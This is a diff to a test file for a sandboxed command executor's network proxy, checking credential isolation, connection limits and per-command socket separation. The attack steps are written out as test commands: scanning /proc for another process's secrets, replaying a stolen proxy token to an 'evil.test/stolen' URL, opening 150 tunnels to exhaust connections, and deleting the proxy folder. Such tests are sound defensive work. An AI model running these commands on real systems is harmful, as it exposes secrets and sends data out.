@@ -25,7 +25,8 @@ import { dirname, join } from "node:path";
 import process from "node:process";
 import { findOnPath } from "../../local/_session.ts";
 import type { SandboxBashExecutorConfig } from "../../sandbox/mod.ts";
-import { PROXY_OPTIONS } from "../../sandbox/_proxy.ts";
+import { MAX_LAUNCH_CONNECTIONS, PROXY_OPTIONS } from "../../sandbox/_proxy.ts";
+import { cgroupSupport } from "../../local/_cgroup.ts";
 import { findBridgeTools } from "../../sandbox/backends/_bridge.ts";
 import {
   executorFor,
@@ -202,7 +203,7 @@ for (const backend of SANDBOX_BACKENDS) {
       await using executor = proxied(backend, workspace);
       const state = await executor.run(executor.resolve({ command: "true" }));
       assert.equal(state.exitCode, 0, state.stderr.text);
-      const socket = (await executor.networkProxyState())?.socketPath ?? "";
+      const socket = join((await executor.networkProxyState())?.socketDir ?? "", "any.sock");
       const direct = await executor.run(executor.resolve({
         command: `curl -sS --noproxy '*' http://127.0.0.1:${internet.port}/direct; ` +
           `echo > /dev/tcp/127.0.0.1/${internet.port} && echo CONNECTED; ` +
@@ -263,6 +264,175 @@ for (const backend of SANDBOX_BACKENDS) {
       assert.equal((await executor.networkProxyState())?.launches, 0);
     });
 
+    it("shows no call's credentials or environment on a command line, and a token opens nothing on another call's socket", async () => {
+      await using internet = await startInternet();
+      using workspace = tempWorkspace();
+      await using executor = proxied(backend, workspace);
+      const wide = {
+        allow: ["allowed.test", "evil.test", "127.0.0.1"],
+      };
+      const secret = `per-call-${crypto.randomUUID()}`;
+      // Call A: a wider list, a per-call env value; it says its proxy URL and waits.
+      const a = await executor.start(executor.resolve({
+        command: 'printf %s "$HTTP_PROXY" > a.url; exec sleep 60',
+        env: { CALL_SECRET: secret },
+        sandboxPolicy: { ...executor.defaultPolicy, network: wide },
+      }));
+      const url = join(workspace.root, "a.url");
+      while (!existsSync(url) || readFileSync(url, "utf8") === "") {
+        await new Promise((resolve) => setTimeout(resolve, 20));
+      }
+      const token = new URL(readFileSync(url, "utf8")).password;
+      assert.match(token, /^[0-9a-f]{32}$/);
+      writeFileSync(join(workspace.root, "needles.txt"), `${token}\n${secret}\n`);
+      // Call B: reads every command line and environment it can, looking for A's.
+      const scan = await executor.run(executor.resolve({
+        command: "python3 -c '\n" +
+          "import os\n" +
+          'needles = open("needles.txt").read().split()\n' +
+          'pids = [p for p in os.listdir("/proc") if p.isdigit()]\n' +
+          "for p in pids:\n" +
+          '  for f in ("cmdline", "environ"):\n' +
+          '    try: text = open(f"/proc/{p}/{f}", "rb").read().decode("latin1")\n' +
+          "    except OSError: continue\n" +
+          '    if any(n in text for n in needles): print("found", p, f)\n' +
+          'print("scanned", len(pids))\'',
+      }));
+      assert.equal(scan.exitCode, 0, scan.stderr.text);
+      assert.match(scan.stdout.text, /^scanned \d+\n$/, scan.stdout.text);
+      // From the host, as any local user (ps auxww) and root: no command line holds
+      // them, and no environment but the command's own.
+      const found: string[] = [];
+      for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
+        const read = (file: string) => {
+          try {
+            return readFileSync(`/proc/${pid}/${file}`, "latin1");
+          } catch {
+            return "";
+          }
+        };
+        const cmdline = read("cmdline");
+        if (cmdline.includes(token) || cmdline.includes(secret)) found.push(`${pid} cmdline`);
+        const environ = read("environ");
+        if (
+          !environ.includes("SHELLSEAM_WATCHDOG=") &&
+          (environ.includes(token) || environ.includes(secret))
+        ) found.push(`${pid} environ: ${cmdline.replaceAll("\0", " ").slice(0, 200)}`);
+      }
+      assert.deepEqual(found, []);
+      // Call B presenting A's token: its own socket refuses it, while A runs and after.
+      const steal = `curl -sS -o /dev/null -w '%{http_code}\\n' ` +
+        `-x "http://shellseam:$A_TOKEN@127.0.0.1:3128" http://evil.test:${internet.port}/stolen`;
+      const during = await executor.run(
+        executor.resolve({ command: steal, env: { A_TOKEN: token } }),
+      );
+      assert.equal(during.stdout.text, "407\n", during.stderr.text);
+      await a.kill();
+      await a.done;
+      assert.equal(a.sandbox?.refusedDestinations, undefined);
+      const after = await executor.run(
+        executor.resolve({ command: steal, env: { A_TOKEN: token } }),
+      );
+      assert.equal(after.stdout.text, "407\n", after.stderr.text);
+      assert.deepEqual(internet.hosts, []);
+    });
+
+    it(
+      `bounds a command's connections: ${MAX_LAUNCH_CONNECTIONS} at most, and the bridge counts against its process limit`,
+      {
+        skip: "unavailable" in cgroupSupport().processes
+          ? "no cgroup this process can make for processes here"
+          : false,
+      },
+      async () => {
+        await using internet = await startInternet();
+        using workspace = tempWorkspace();
+        await using executor = proxied(backend, workspace);
+        // 150 connections, each a CONNECT tunnel it holds open; it says what each got.
+        const hold = (file: string) =>
+          "exec python3 -c '\n" +
+          "import base64, os, socket, time, urllib.parse\n" +
+          'u = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])\n' +
+          'auth = base64.b64encode(f"{u.username}:{u.password}".encode()).decode()\n' +
+          "held, codes = [], {}\n" +
+          "for i in range(150):\n" +
+          "  try:\n" +
+          '    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)\n' +
+          `    s.sendall(f"CONNECT allowed.test:${internet.port} HTTP/1.1\\r\\n` +
+          'Proxy-Authorization: Basic {auth}\\r\\n\\r\\n".encode())\n' +
+          '    key = s.recv(64).split(b" ")[1].decode() or "closed"\n' +
+          '    held.append(s) if key == "200" else s.close()\n' +
+          "  except (OSError, IndexError) as error:\n" +
+          "    key = type(error).__name__\n" +
+          "  codes[key] = codes.get(key, 0) + 1\n" +
+          `open("${file}.tmp", "w").write(repr(sorted(codes.items())))\n` +
+          `os.rename("${file}.tmp", "${file}")\n` +
+          "time.sleep(120)'";
+        const observe = async (file: string) => {
+          const path = join(workspace.root, file);
+          while (!existsSync(path)) await new Promise((resolve) => setTimeout(resolve, 50));
+          const state = await executor.networkProxyState();
+          const bridges = readdirSync("/proc").filter((pid) => {
+            try {
+              const cmdline = readFileSync(`/proc/${pid}/cmdline`, "latin1");
+              return cmdline.includes(`UNIX-CONNECT:${state?.socketDir}/`);
+            } catch {
+              return false;
+            }
+          });
+          return { codes: readFileSync(path, "utf8"), connections: state?.connections, bridges };
+        };
+        const limited = await executor.start(executor.resolve({
+          command: hold("limited.txt"),
+          limits: { processes: 60 },
+        }));
+        const small = await observe("limited.txt");
+        // The bridge's processes are the command's: together they stay under 60.
+        assert.ok(small.bridges.length < 60, `${small.bridges.length} bridge processes`);
+        assert.ok(
+          (small.connections ?? 0) < 60,
+          `${small.connections} connections: ${small.codes}`,
+        );
+        await limited.kill();
+        await limited.done;
+        const open = await executor.start(executor.resolve({ command: hold("open.txt") }));
+        const wide = await observe("open.txt");
+        // Past the bound, the client is told, and the connection goes.
+        const codes = new Map(
+          [...wide.codes.matchAll(/\('(\w+)', (\d+)\)/g)].map((
+            [, key, count],
+          ) => [key, Number(count)]),
+        );
+        assert.equal(codes.get("200"), MAX_LAUNCH_CONNECTIONS, wide.codes);
+        assert.equal(codes.get("503"), 150 - MAX_LAUNCH_CONNECTIONS, wide.codes);
+        assert.ok(
+          (wide.connections ?? 0) <= MAX_LAUNCH_CONNECTIONS,
+          `${wide.connections} connections`,
+        );
+        await open.kill();
+        await open.done;
+      },
+    );
+
+    it("lets no command connect to another's proxy socket, even with Unix sockets open to it", async () => {
+      using workspace = tempWorkspace();
+      await using executor = proxied(backend, workspace);
+      const a = await executor.start(executor.resolve({ command: "exec sleep 60" }));
+      const dir = (await executor.networkProxyState())?.socketDir ?? "";
+      const [name] = readdirSync(dir);
+      const socket = join(dir, name ?? "");
+      const b = await executor.run(executor.resolve({
+        command: `ls '${dir}'; python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); ` +
+          `s.connect("${socket}"); print("UNIX")'`,
+        sandboxPolicy: { ...executor.defaultPolicy, network: "allow" },
+      }));
+      assert.doesNotMatch(b.stdout.text, /UNIX|\.sock/);
+      assert.match(b.stderr.text, /Permission denied/);
+      assert.match(b.stderr.text, /PermissionError/);
+      await a.kill();
+      await a.done;
+    });
+
     it("listens again when an unconfined command removed the private folder", async () => {
       await using internet = await startInternet();
       using workspace = tempWorkspace();
@@ -270,7 +440,7 @@ for (const backend of SANDBOX_BACKENDS) {
       const url = `http://allowed.test:${internet.port}`;
       const first = await executor.run(executor.resolve({ command: `curl -sS ${url}/one` }));
       assert.equal(first.exitCode, 0, first.stderr.text);
-      const socket = (await executor.networkProxyState())?.socketPath ?? "";
+      const socket = (await executor.networkProxyState())?.socketDir ?? "";
       const removed = await executor.run(executor.resolve({
         command: `rm -rf '${dirname(socket)}'`,
         sandboxPolicy: { ...executor.defaultPolicy, mode: "danger-full-access" },
@@ -282,14 +452,20 @@ for (const backend of SANDBOX_BACKENDS) {
       assert.equal(again.stdout.text, `hello allowed.test:${internet.port} /two\n`);
     });
 
-    it("stops the proxy with the executor", async () => {
+    it("gives each command a socket of its own, removed when it settles, and stops the proxy with the executor", async () => {
       using workspace = tempWorkspace();
       const executor = proxied(backend, workspace);
       const result = await executor.run(executor.resolve({ command: "true" }));
       assert.equal(result.exitCode, 0, result.stderr.text);
-      const socket = (await executor.networkProxyState())?.socketPath ?? "";
+      const dir = (await executor.networkProxyState())?.socketDir ?? "";
+      assert.deepEqual(readdirSync(dir), [], "a settled command's socket is gone");
+      const task = await executor.start(executor.resolve({ command: "sleep 60" }));
+      const [name, ...others] = readdirSync(dir);
+      assert.deepEqual(others, []);
+      const socket = join(dir, name ?? "");
       assert.ok(existsSync(socket));
       await executor[Symbol.asyncDispose]();
+      await task.done;
       assert.equal(existsSync(socket), false);
       assert.equal((await executor.networkProxyState())?.listening, false);
       const refused = await new Promise<string>((resolve) => {
